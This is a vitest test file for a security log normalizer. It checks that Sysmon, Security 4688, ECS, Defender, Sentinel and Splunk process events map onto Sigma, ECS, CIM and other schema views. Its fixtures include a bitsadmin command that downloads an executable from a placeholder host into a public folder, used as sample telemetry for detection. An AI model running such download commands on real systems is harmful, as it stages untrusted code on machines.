// Normalization per schema: catalog events, time, fields and the views of a Sysmon 1, a Security 4688, an ECS process start and a Defender row.
import { describe, expect, it } from 'vitest';
import type { Diagnostic } from '../model/diagnostic.js';
import { conceptValues, normalizeEvent } from './normalize.js';
import { readEventText } from './read.js';

function one(value: unknown) {
  const diagnostics: Diagnostic[] = [];
  const [record] = readEventText(JSON.stringify(value), 'test.json', diagnostics);
  expect(diagnostics).toEqual([]);
  return normalizeEvent(record);
}

const system = (id: number, channel: string, provider: string) => ({
  Provider: { '#attributes': { Name: provider, Guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' } },
  EventID: id,
  TimeCreated: { '#attributes': { SystemTime: '2026-01-02T03:04:05.678Z' } },
  EventRecordID: 42,
  Execution: { '#attributes': { ProcessID: 3904, ThreadID: 4272 } },
  Channel: channel,
  Computer: 'ws1.corp.local',
  Security: { '#attributes': { UserID: 'S-1-5-18' } },
});

const sysmon1 = {
  Event: {
    '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
    System: system(1, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon'),
    EventData: {
      Image: 'C:\\Windows\\System32\\bitsadmin.exe',
      CommandLine: 'bitsadmin /transfer job https://x.example/a.exe C:\\Users\\Public\\a.exe',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      ProcessId: 3412,
      User: 'CORP\\alice',
      Hashes:
        'SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,MD5=FAB4B30C1C4F0A9202A7B42DCF1729DC,IMPHASH=C324',
    },
  },
};

const security4688 = {
  Event: {
    System: system(4688, 'Security', 'Microsoft-Windows-Security-Auditing'),
    EventData: {
      SubjectUserName: 'alice',
      NewProcessName: 'C:\\Windows\\System32\\bitsadmin.exe',
      CommandLine: 'bitsadmin /transfer job https://x.example/a.exe',
      ParentProcessName: 'C:\\Windows\\explorer.exe',
    },
  },
};

describe('a Sysmon 1 event', () => {
  const event = one(sysmon1);

  it('finds its provider, event id, catalog event, time and record id', () => {
    expect(event).toMatchObject({ provider: 'sysmon', eventId: '1', events: ['sysmon:1'] });
    expect(event.time).toBe(Date.UTC(2026, 0, 2, 3, 4, 5, 678));
    expect(event.record.origin).toEqual({ file: 'test.json', index: 0, recordId: 42 });
  });

  it('flattens System and EventData fields by name', () => {
    expect(event.fields).toMatchObject({
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'ws1.corp.local',
      Provider_Name: 'Microsoft-Windows-Sysmon',
      Execution_ProcessID: 3904,
      Security_UserID: 'S-1-5-18',
      Image: 'C:\\Windows\\System32\\bitsadmin.exe',
      ProcessId: 3412,
    });
  });

  it('has every schema’s view, derived fields included', () => {
    expect(event.views.sigma.Image).toBe('C:\\Windows\\System32\\bitsadmin.exe');
    expect(event.views.windows.NewProcessName).toBe('C:\\Windows\\System32\\bitsadmin.exe');
    expect(event.views.ecs).toMatchObject({
      'process.executable': 'C:\\Windows\\System32\\bitsadmin.exe',
      'process.name': 'bitsadmin.exe',
      'process.parent.name': 'cmd.exe',
      'process.pid': 3412,
      'process.hash.sha1': '5E4F2C531C549BB72A658ED9DD16D491EDDBB286',
      'process.hash.md5': 'FAB4B30C1C4F0A9202A7B42DCF1729DC',
      'host.name': 'ws1.corp.local',
    });
    expect(event.views.cim).toMatchObject({
      'Processes.process': sysmon1.Event.EventData.CommandLine,
      process: sysmon1.Event.EventData.CommandLine,
      'Processes.process_name': 'bitsadmin.exe',
      'Processes.process_path': 'C:\\Windows\\System32\\bitsadmin.exe',
    });
    expect(event.views.defender).toMatchObject({
      FileName: 'bitsadmin.exe',
      FolderPath: 'C:\\Windows\\System32\\bitsadmin.exe',
      ProcessCommandLine: sysmon1.Event.EventData.CommandLine,
      InitiatingProcessFileName: 'cmd.exe',
      SHA1: '5E4F2C531C549BB72A658ED9DD16D491EDDBB286',
      DeviceName: 'ws1.corp.local',
    });
    expect(event.views.udm['target.process.file.full_path']).toBe('C:\\Windows\\System32\\bitsadmin.exe');
    expect(Object.keys(JSON.parse(JSON.stringify(event.views)))).toEqual(
      expect.arrayContaining(['sigma', 'windows', 'ecs', 'cim', 'defender', 'sentinel', 'udm']),
    );
  });

  it('renders its raw text as Windows XML, escaped', () => {
    expect(event.raw).toContain('<Provider Name="Microsoft-Windows-Sysmon"');
    expect(event.raw).toContain('<EventID>1</EventID>');
    expect(event.raw).toContain('<Data Name="Image">C:\\Windows\\System32\\bitsadmin.exe</Data>');
    expect(event.raw).toContain('<Correlation/>'.length ? '<Computer>ws1.corp.local</Computer>' : '');
    expect(one({ Event: { System: { EventID: 1 }, EventData: { X: '<a & "b">' } } }).raw).toContain(
      '<Data Name="X">&lt;a &amp; &quot;b&quot;&gt;</Data>',
    );
  });

  it('gives concept values for rule fields to resolve to', () => {
    expect(conceptValues(event).get('process.image_path')).toBe('C:\\Windows\\System32\\bitsadmin.exe');
    expect(conceptValues(event).get('process.name')).toBe('bitsadmin.exe');
  });
});

describe('a Security 4688 event', () => {
  const event = one(security4688);

  it('is security:4688 with its own names and Sysmon’s', () => {
    expect(event).toMatchObject({ provider: 'security', eventId: '4688', events: ['security:4688'] });
    expect(event.fields.NewProcessName).toBe('C:\\Windows\\System32\\bitsadmin.exe');
    expect(event.views.sigma).toMatchObject({
      NewProcessName: 'C:\\Windows\\System32\\bitsadmin.exe',
      Image: 'C:\\Windows\\System32\\bitsadmin.exe',
      ParentImage: 'C:\\Windows\\explorer.exe',
    });
    expect(event.views.ecs).toMatchObject({ 'process.name': 'bitsadmin.exe', 'user.name': 'alice' });
    expect(event.views.defender.FileName).toBe('bitsadmin.exe');
  });
});

describe('an ECS process start', () => {
  const event = one({
    '@timestamp': '2026-01-02T03:04:05.000Z',
    event: { category: ['process'], type: ['start'], kind: 'event' },
    process: {
      executable: 'C:\\Windows\\System32\\bitsadmin.exe',
      command_line: 'bitsadmin /transfer x',
      parent: { name: 'cmd.exe' },
    },
    host: { name: 'ws1' },
  });

  it('is an Elastic process event with dotted fields', () => {
    expect(event.record.shape).toBe('ecs');
    expect(event).toMatchObject({ provider: 'elastic', eventId: 'process', events: ['elastic:process'] });
    expect(event.time).toBe(Date.UTC(2026, 0, 2, 3, 4, 5));
    expect(event.fields['process.executable']).toBe('C:\\Windows\\System32\\bitsadmin.exe');
    expect(event.fields['process.parent.name']).toBe('cmd.exe');
  });

  it('has the Sysmon and CIM names of its values', () => {
    expect(event.views.ecs['process.name']).toBe('bitsadmin.exe');
    expect(event.views.sigma).toMatchObject({
      Image: 'C:\\Windows\\System32\\bitsadmin.exe',
      CommandLine: 'bitsadmin /transfer x',
    });
    expect(event.views.cim['Processes.parent_process_name']).toBe('cmd.exe');
  });

  it('reads winlogbeat documents as the Windows event they carry', () => {
    const beat = one({
      '@timestamp': '2026-01-02T03:04:05.000Z',
      'winlog.channel': 'Microsoft-Windows-Sysmon/Operational',
      'winlog.event_id': 1,
      'winlog.event_data.Image': 'C:\\x\\y.exe',
      'winlog.event_data.RuleName': 'technique_id=T1059',
    });
    expect(beat).toMatchObject({ provider: 'sysmon', eventId: '1', events: ['sysmon:1'] });
    expect(beat.views.sigma.Image).toBe('C:\\x\\y.exe');
    expect(beat.views.sigma.RuleName).toBe('technique_id=T1059');
    expect(beat.views.ecs['process.name']).toBe('y.exe');
  });
});

describe('a Defender DeviceProcessEvents row', () => {
  const event = one({
    Timestamp: '2026-01-02T03:04:05Z',
    DeviceId: 'abc',
    DeviceName: 'ws1',
    ActionType: 'ProcessCreated',
    FileName: 'bitsadmin.exe',
    FolderPath: 'C:\\Windows\\System32\\bitsadmin.exe',
    ProcessCommandLine: 'bitsadmin /transfer x',
    InitiatingProcessFileName: 'cmd.exe',
    SHA256: 'abcd',
    Type: 'DeviceProcessEvents',
  });

  it('is its table’s event, with Sysmon and ECS names', () => {
    expect(event.record.shape).toBe('defender');
    expect(event).toMatchObject({
      provider: 'defender-xdr',
      eventId: 'DeviceProcessEvents',
      events: ['defender-xdr:DeviceProcessEvents'],
    });
    expect(event.time).toBe(Date.UTC(2026, 0, 2, 3, 4, 5));
    expect(event.views.sigma).toMatchObject({
      Image: 'C:\\Windows\\System32\\bitsadmin.exe',
      CommandLine: 'bitsadmin /transfer x',
    });
    expect(event.views.ecs).toMatchObject({
      'process.name': 'bitsadmin.exe',
      'process.parent.name': 'cmd.exe',
      'process.hash.sha256': 'abcd',
    });
  });
});

describe('a Sentinel SecurityEvent row', () => {
  it('is its table’s event and the Security event its EventID names', () => {
    const event = one({
      TimeGenerated: '2026-01-02T03:04:05Z',
      TenantId: 't',
      Computer: 'ws1',
      EventID: 4688,
      NewProcessName: 'C:\\Windows\\System32\\bitsadmin.exe',
      CommandLine: 'bitsadmin /transfer x',
      Type: 'SecurityEvent',
    });
    expect(event).toMatchObject({
      provider: 'sentinel',
      eventId: 'SecurityEvent',
      events: ['sentinel:SecurityEvent', 'security:4688'],
    });
    expect(event.views.sigma.Image).toBe('C:\\Windows\\System32\\bitsadmin.exe');
    expect(event.views.ecs['process.name']).toBe('bitsadmin.exe');
  });
});

describe('a Splunk result', () => {
  it('reads the result object, its source type and event code', () => {
    const event = one({
      preview: false,
      result: {
        _time: '1767323045',
        sourcetype: 'XmlWinEventLog:Security',
        EventCode: '4688',
        NewProcessName: 'C:\\a\\b.exe',
      },
    });
    expect(event.record.shape).toBe('splunk');
    expect(event).toMatchObject({ provider: 'security', eventId: '4688', events: ['security:4688'] });
    expect(event.time).toBe(1767323045000);
    expect(event.views.cim.process_name).toBe('b.exe');
  });
});

describe('a flat Windows event and plain JSON', () => {
  it('reads Sysmon names at the top level', () => {
    const event = one({
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Image: 'C:\\a\\b.exe',
      UtcTime: '2026-01-02 03:04:05.000',
    });
    expect(event.record.shape).toBe('windows-flat');
    expect(event).toMatchObject({
      provider: 'sysmon',
      eventId: '1',
      events: ['sysmon:1'],
      time: Date.UTC(2026, 0, 2, 3, 4, 5),
    });
    expect(event.views.ecs['process.name']).toBe('b.exe');
  });

  it('keeps any other object as JSON with no catalog event', () => {
    const event = one({ a: { b: 1 }, c: [1, 2] });
    expect(event.record.shape).toBe('json');
    expect(event.fields).toEqual({ 'a.b': 1, c: [1, 2] });
    expect(event.events).toEqual([]);
    expect(event.raw).toBe('{"a":{"b":1},"c":[1,2]}');
  });
});
